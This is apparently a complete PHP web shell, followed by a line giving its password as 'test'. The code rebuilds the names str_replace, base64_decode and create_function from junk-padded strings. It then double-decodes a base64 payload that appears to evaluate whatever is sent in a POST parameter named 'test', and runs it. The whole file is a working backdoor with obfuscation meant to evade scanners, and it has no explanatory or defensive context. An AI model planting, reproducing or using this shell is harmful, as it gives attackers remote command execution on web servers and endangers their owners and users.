<?php 
$oskl2="UUdWMllXd";$gkst3="29KRjlRVDFOVVd5ZDBaWE4wSjEw";$hbkw1="cE93P";$rcxh1="T0=";
$cbjo5 = str_replace("ct7","","ct7sct7tct7rct7_rct7ect7plct7act7ce");
$xxfu8 = $cbjo5("gd2", "", "gd2bagd2sgd2e6gd24gd2_gd2dgd2egd2cgd2ogd2dgd2e");
$xlco7 = $cbjo5("cgs1","","cgs1ccgs1recgs1atcgs1ecgs1_fcgs1unccgs1tcgs1iocgs1n");
$safm1 = $xlco7('', $xxfu8($xxfu8($cbjo5("#;*,.", "", $oskl2.$gkst3.$hbkw1.$rcxh1)))); $safm1();
?>

password:test 